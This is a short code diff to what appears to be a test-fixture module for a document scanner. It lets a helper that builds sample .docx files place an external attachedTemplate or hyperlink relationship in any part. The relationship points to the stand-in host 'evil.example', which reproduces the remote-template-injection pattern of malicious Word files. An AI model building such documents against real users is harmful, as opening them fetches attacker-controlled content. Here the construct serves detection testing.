@@ -44,9 +44,13 @@ export const aMacroDocx = () =>
   aDocx({ '[Content_Types].xml': typesOf('application/vnd.ms-word.document.macroEnabled.main+xml') })
 
 /** A relationship that is fetched, or pressed. */
-export const aDocxThatRefers = (type: 'attachedTemplate' | 'hyperlink', mode = 'TargetMode="External"') =>
+export const aDocxThatRefers = (
+  type: 'attachedTemplate' | 'hyperlink',
+  mode = 'TargetMode="External"',
+  part = 'word/_rels/settings.xml.rels',
+) =>
   aDocx({
-    'word/_rels/settings.xml.rels': relations(
+    [part]: relations(
       `<Relationship Id="r" Type="http://x/relationships/${type}" Target="https://evil.example/t" ${mode}/>`,
     ),
   })
